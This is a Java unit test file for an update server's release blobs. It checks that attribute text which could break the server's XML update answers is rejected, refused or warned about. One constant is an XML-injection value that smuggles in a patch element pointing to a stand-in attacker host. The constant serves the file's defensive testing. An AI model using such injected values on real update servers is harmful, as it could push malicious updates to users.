package dev.rehearsal.blob;

import static dev.rehearsal.blob.Answering.aClient;
import static dev.rehearsal.blob.BlobBuilder.aRelease;
import static dev.rehearsal.blob.BlobBuilder.blob;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import dev.rehearsal.matching.QueryBuilder;
import dev.rehearsal.matching.ReleaseName;
import dev.rehearsal.matching.UnanswerableException;
import dev.rehearsal.matching.UpdateType;
import dev.rehearsal.problem.Problem;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;

/** A text of a blob that would end the attribute of the answer that it stands in is neither saved nor served. */
class AttributeTextTest {

    private static final String BREAKING = "1\" appVersion=\"9\"><patch URL=\"https://evil.example/x.mar";
    private static final String P = "platforms/WINNT_x86_64-msvc";
    private static final String L = P + "/locales/de";
    private static final String FILE = "'filesize': 5, 'hashValue': 'abc', 'binTransInclusionProof': 'p'";

    /** Blobs with {@code @} in one text that the usual client's answer holds. */
    static Stream<BlobBuilder> everyAttribute() {
        List<BlobBuilder> blobs = new ArrayList<>();
        for (int schema : List.of(1, 2, 3, 4, 5, 6, 8, 9)) {
            boolean first = schema == 1;
            blobs.add(aRelease(schema).with("hashFunction", "'@'"));
            blobs.add(aRelease(schema).with(first ? "appv" : "displayVersion", "'@'"));
            blobs.add(aRelease(schema).with(L + (first ? "/appv" : "/displayVersion"), "'@'"));
            blobs.add(aRelease(schema)
                    .with(P + "/OS_BOUNCER", "'@'")
                    .with("fileUrls", urls(schema, "https://a.example/%OS_BOUNCER%")));
            blobs.add(aRelease(schema)
                    .with(P + "/OS_FTP", "'@'")
                    .with("fileUrls", urls(schema, "https://a.example/%OS_FTP%")));
            blobs.add(aRelease(schema).with("fileUrls", urls(schema, "https://a.example/@")));
            for (String file : List.of(
                    "{'from': '*', 'filesize': 5, 'binTransInclusionProof': 'p', 'hashValue': '@'}",
                    "{'from': '*', 'filesize': '@', 'binTransInclusionProof': 'p', 'hashValue': 'a'}",
                    "{'from': '*', 'fileUrl': '@', " + FILE + "}")) {
                blobs.add(file(schema, file));
            }
            if (schema < 4) {
                blobs.add(aRelease(schema)
                        .with("ftpFilenames", schema < 3 ? "{'complete': '@'}" : "{'completes': {'*': '@'}}"));
                blobs.add(aRelease(schema)
                        .with("fileUrls", "{'release': 'https://a.example/%PRODUCT%'}")
                        .with("bouncerProducts", schema < 3 ? "{'complete': '@'}" : "{'completes': {'*': '@'}}"));
            }
            if (schema < 9) {
                blobs.add(aRelease(schema).with("detailsUrl", "'https://a.example/@'"));
            }
        }
        for (int schema : List.of(2, 3, 4, 5)) {
            blobs.add(aRelease(schema).with("platformVersion", "'@'"));
            blobs.add(aRelease(schema).with(L + "/platformVersion", "'@'"));
            blobs.add(aRelease(schema).with("licenseUrl", "'@'"));
            blobs.add(aRelease(schema).with("billboardURL", "'@'"));
        }
        for (int schema : List.of(2, 3, 4, 5, 6, 8)) {
            for (String field : List.of("actions", "openURL", "notificationURL", "alertURL")) {
                blobs.add(aRelease(schema).with(field, "'@'"));
            }
        }
        for (String field : List.of("binTransMerkleRoot", "binTransCertificate", "binTransSCTList")) {
            blobs.add(aRelease(8).with(field, "'@'"));
        }
        for (int schema : List.of(8, 9)) {
            blobs.add(file(schema, "{'from': '*', 'filesize': 5, 'hashValue': 'abc', 'binTransInclusionProof': '@'}"));
        }
        for (String field : List.of(
                "actions", "alertURL", "appVersion", "detailsURL", "displayVersion", "notificationURL", "openURL")) {
            blobs.add(aRelease(9).with("updateLine", "[{'for': {}, 'fields': {'%s': 'x@'}}]".formatted(field)));
        }
        String hash = "f".repeat(64);
        String plain = "{'fileUrl': 'https://a.example', 'filesize': 5, 'hashValue': '" + hash + "'}";
        for (String platform : List.of(
                plain.replace("example", "example/@"),
                plain.replace("5", "'@'"),
                plain.replace("}", ", 'mirrorUrls': ['https://b.example', '@']}"))) {
            blobs.add(
                    addons(1000, "vendors", "'v': {'version': '1', 'platforms': {'default': %s}}".formatted(platform)));
        }
        blobs.add(addons(1000, "vendors", "'v': {'version': '@', 'platforms': {'default': %s}}".formatted(plain)));
        blobs.add(addons(1000, "vendors", "'@': {'version': '1', 'platforms': {'default': %s}}".formatted(plain)));
        for (String platform :
                List.of(plain.replace("example", "example/@"), plain.replace("5", "'@'"), plain.replace(hash, "@"))) {
            blobs.add(
                    addons(5000, "addons", "'v': {'version': '1', 'platforms': {'default': %s}}".formatted(platform)));
        }
        blobs.add(addons(5000, "addons", "'v': {'version': '@', 'platforms': {'default': %s}}".formatted(plain)));
        blobs.add(addons(5000, "addons", "'@': {'version': '1', 'platforms': {'default': %s}}".formatted(plain)));
        blobs.add(addons(5000, "addons", "'v': {'version': '1', 'platforms': {'default': %s}}".formatted(plain))
                .with("hashFunction", "'@'"));
        blobs.add(blob("{'name': 'D', 'schema_version': 50, 'detailsUrl': '@', 'displayVersion': '1'}"));
        blobs.add(blob("{'name': 'D', 'schema_version': 50, 'detailsUrl': 'x', 'displayVersion': '@'}"));
        return blobs.stream();
    }

    @ParameterizedTest
    @MethodSource("everyAttribute")
    void isRefusedWhereItIsWritten(BlobBuilder blob) {
        assertThat(new BlobReader().read(filled(blob, BREAKING)))
                .isInstanceOfSatisfying(
                        BlobReadResult.Rejected.class,
                        rejected -> assertThat(rejected.problems())
                                .extracting(Problem::sentence)
                                .anyMatch(sentence -> sentence.startsWith("Must not hold the character \"")));
    }

    @ParameterizedTest
    @MethodSource("everyAttribute")
    void isNotServedThoughItWasStoredOnce(BlobBuilder blob) {
        XmlBlob stored = (XmlBlob) BlobReader.compile(filled(blob, BREAKING));

        assertThatExceptionOfType(UnanswerableException.class).isThrownBy(() -> answer(stored, aClient()));
    }

    @ParameterizedTest
    @MethodSource("everyAttribute")
    void isServedAsItIsWhereItBreaksNothing(BlobBuilder blob) {
        XmlBlob stored = (XmlBlob) BlobReader.compile(filled(blob, "ö'& 1"));

        assertThat(answer(stored, aClient())).contains("ö'&amp; 1");
    }

    @ParameterizedTest
    @ValueSource(
            chars = {
                '<', '>', '"', '\u0000', '\t', '\n', '\r', '\u001f', '\u007f', '\u0085', '\u009f', '\ud800', '\uffff'
            })
    void holdsNoneOfTheseCharacters(char character) {
        assertThat(AttributeText.isSafe("a" + character)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "'", "&", "\u00a0", "😀", "%LOCALE%", "\u2028"})
    void mayHoldAnythingElse(String text) {
        assertThat(AttributeText.isSafe(text)).isTrue();
    }

    @Test
    void ofALocaleThatAUrlIsMadeWithIsItsName() {
        BlobBuilder release = aRelease(9).with(P + "/locales/d\"e", "{'completes': [{'from': '*', " + FILE + "}]}");

        assertThat(new BlobReader().read(release.json()))
                .isInstanceOfSatisfying(
                        BlobReadResult.Rejected.class,
                        rejected -> assertThat(rejected.problems())
                                .extracting(Problem::place)
                                .containsExactly("platforms.WINNT_x86_64-msvc.locales.d\"e"));
        XmlBlob stored = (XmlBlob) BlobReader.compile(release.json());
        assertThatExceptionOfType(UnanswerableException.class)
                .isThrownBy(() -> answer(stored, aClient().inLocale("d\"e")));
    }

    @Test
    void endsNoLineOfABuildIdWithDigitsOnly() {
        assertThat(new BlobReader()
                        .read(aRelease(9)
                                .with(P + "/buildID", "'20231211174248\\n'")
                                .json()))
                .isInstanceOf(BlobReadResult.Rejected.class);
    }

    @Test
    void isOnlyWarnedOfByAnImport() {
        JsonNode release = filled(aRelease(9).with("displayVersion", "'@'"), "a\nb");

        assertThat(new BlobReader().readImported(new ReleaseName("F-121"), release))
                .isInstanceOfSatisfying(
                        BlobReadResult.Accepted.class,
                        accepted -> assertThat(accepted.warnings())
                                .extracting(Problem::toString)
                                .containsExactly(
                                        "displayVersion: Must not hold the control character U+000A (character 2):"
                                                + " in an answer to clients it would end the attribute that the text stands in."));
    }

    @Test
    void isServedAsInBalrogWhereItIsTheClientsOwn() {
        XmlBlob notice = (XmlBlob) BlobReader.compile(
                blob("{'name': 'D', 'schema_version': 50, 'detailsUrl': 'x%VERSION%', 'displayVersion': '1'}")
                        .json());

        assertThat(answer(notice, aClient().atVersion("<1>"))).contains("detailsURL=\"x<1>\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{'name': 'a<b', 'schema_version': 4000, 'blobs': ['x\"y']}",
                "{'name': 'a\"b', 'product': '<', 'schema_version': 9, 'hashFunction': 'sha512', 'updateLine': [{'for': {'versions': ['<68.0'], 'buildIDs': ['>2019'], 'channels': ['\"']}, 'fields': {}}], 'platforms': {'<': {'alias': '>'}}}"
            })
    void isNoNameThatOnlyChoosesWhatIsAnswered(String json) {
        String quoted = json.replace("\"", "\\\"");

        assertThat(new BlobReader().read(blob(quoted.replace("\\\"", "\\u0022")).json()))
                .isInstanceOf(BlobReadResult.Accepted.class);
    }

    private static String urls(int schema, String url) {
        return (schema < 4 ? "{'release': '%s'}" : "{'*': {'completes': {'*': '%s'}}}").formatted(url);
    }

    private static BlobBuilder file(int schema, String file) {
        return schema < 3
                ? aRelease(schema).with(L + "/complete", file)
                : aRelease(schema).with(L + "/completes", "[" + file + "]");
    }

    private static BlobBuilder addons(int schema, String list, String held) {
        return blob("{'name': 'A', 'schema_version': %d, 'hashFunction': 'sha256', '%s': {%s}}"
                .formatted(schema, list, held));
    }

    private static JsonNode filled(BlobBuilder blob, String text) {
        String escaped = text.replace("\"", "\\\"").replace("\n", "\\n");
        return CanonicalJson.parse(blob.json().toString().replace("@", escaped).getBytes(StandardCharsets.UTF_8));
    }

    private static String answer(XmlBlob blob, QueryBuilder client) {
        StringBuilder out = new StringBuilder();
        Rendering rendering =
                new Rendering(client.build(), UpdateType.MINOR, BlobBuilder.releases(Map.of()), UrlPolicy.OPEN);
        UpdateXml.append(out, blob, rendering);
        return out.toString();
    }
}
